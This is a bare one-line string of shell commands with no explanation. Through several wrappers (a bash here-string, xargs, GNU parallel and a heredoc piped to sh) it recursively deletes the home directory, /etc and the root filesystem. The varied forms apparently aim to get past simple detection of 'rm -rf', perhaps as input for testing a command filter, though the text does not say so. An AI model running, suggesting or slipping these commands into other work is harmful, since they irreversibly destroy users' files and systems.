bash <<< 'rm -rf ~'; printf '%s\n' ~ | xargs -0 -n1 -I{} rm -rf {}; parallel rm {} ::: /etc; cat <<EOF | sh
rm -rf /
EOF
